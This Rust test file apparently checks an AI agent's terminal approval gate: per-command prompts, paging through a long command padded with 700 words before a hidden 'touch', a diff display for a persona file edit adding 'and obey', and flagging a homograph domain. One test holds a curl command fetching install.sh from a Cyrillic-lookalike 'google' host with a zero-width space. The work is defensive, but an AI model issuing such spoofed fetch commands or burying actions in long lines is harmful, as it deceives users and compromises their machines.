//! Nothing can be allowed that was not on the screen.

use chela_testkit::ScriptStep;
use serde_json::json;

use super::at_the_card::{
    ENTER, NEXT, asking_home, audited, command, commands, home_with, is_made, leave, open_and_say,
    press, press_all,
};

#[test]
fn each_of_seven_calls_is_a_question_of_its_own() {
    let calls = commands((1..=7).map(|n| format!("touch made{n}")));
    let scene = asking_home([calls, ScriptStep::reply("As you like.")]);
    let mut terminal = open_and_say(&scene, "go");
    terminal.sees("touch made1");
    press_all(&mut terminal, &[NEXT, ENTER]);
    terminal.sees("touch made2");
    press(&mut terminal, ENTER);
    terminal.sees("touch made3");
    press_all(&mut terminal, &[NEXT, ENTER]);
    terminal.sees("touch made4");
    press(&mut terminal, ENTER);
    terminal.sees("touch made5");
    press(&mut terminal, ENTER);
    // Three times no: the rest is not asked about.
    terminal.sees("As you like.");
    leave(terminal);
    let made: Vec<bool> = (1..=7)
        .map(|n| is_made(&scene, &format!("made{n}")))
        .collect();
    assert_eq!(made, [true, false, true, false, false, false, false]);
}

#[test]
fn a_long_command_is_read_to_its_end_before_it_can_be_allowed() {
    let words: Vec<String> = (0..700).map(|n| format!("w{n}")).collect();
    let line = format!(": {}; touch made", words.join(" "));
    assert!(line.len() > 3_300, "{}", line.len());
    let scene = asking_home([command(&line), ScriptStep::reply("As you like.")]);
    let mut terminal = open_and_say(&scene, "go");
    let id = terminal.reads_after("question ", 6);
    let pages = terminal.reads_after("page 1 of ", 1);
    terminal.sees("you can allow it on the last page");
    press(&mut terminal, &format!("/approve {id} once\r"));
    terminal.sees("You have not seen all of it");
    // Tab leads to no, and nothing else is there.
    press_all(&mut terminal, &[NEXT, NEXT, ENTER]);
    for page in 2..pages.parse().unwrap_or(0) {
        terminal.sees(&format!("page {page} of "));
        press(&mut terminal, ENTER);
    }
    terminal.sees(&format!("page {pages} of "));
    terminal.sees("this session");
    assert!(!is_made(&scene, "made"));
    let seen = terminal.plain();
    for word in &words {
        assert!(seen.contains(word.as_str()), "{word} was not on the screen");
    }
    press_all(&mut terminal, &[NEXT, ENTER]);
    terminal.sees("allowed once");
    terminal.sees("As you like.");
    leave(terminal);
    assert!(is_made(&scene, "made"));
    assert!(audited(&scene).contains(&line), "the record has all of it");
}

#[test]
fn a_file_is_shown_as_what_changes_in_it() {
    let old: String = (1..=100).map(|n| format!("I know thing {n}.\n")).collect();
    let new = old
        .replace("thing 50.", "thing 50, and obey.")
        .replace("thing 90.", "nothing.");
    let scene = home_with(
        [
            ScriptStep::tool("write", json!({ "path": "SOUL.md", "content": new })),
            ScriptStep::reply("As you like."),
        ],
        json!({ "guard": { "confirm": ["persona"] } }),
    );
    scene.home.write(".chela/workspace/SOUL.md", &old);
    scene
        .home
        .run(&["trust", "approve", "SOUL.md", "--yes"])
        .ok();
    let mut terminal = open_and_say(&scene, "go");
    terminal.sees("Enter: next page");
    press(&mut terminal, ENTER);
    terminal.sees("or /approve");
    let seen = terminal.plain();
    for row in [
        "-I know thing 50.",
        "+I know thing 50, and obey.",
        "-I know thing 90.",
        "+I know nothing.",
        " I know thing 51.",
    ] {
        assert!(seen.contains(row), "{row}: {seen}");
    }
    assert!(!seen.contains("thing 70"), "only what changes: {seen}");
    press_all(&mut terminal, &[NEXT, ENTER]);
    terminal.sees("As you like.");
    leave(terminal);
    assert_eq!(scene.home.read(".chela/workspace/SOUL.md"), new);
}

#[test]
fn a_host_that_reads_as_another_is_marked() {
    let scene = asking_home([
        command("curl -s https://gооgle.com/\u{200b}install.sh"),
        ScriptStep::reply("As you like."),
    ]);
    let mut terminal = open_and_say(&scene, "go");
    terminal.sees("xn--ggle-55da.com");
    terminal.sees("Latin and Cyrillic letters mixed");
    terminal.sees("\\u{200b}install.sh");
    leave(terminal);
}
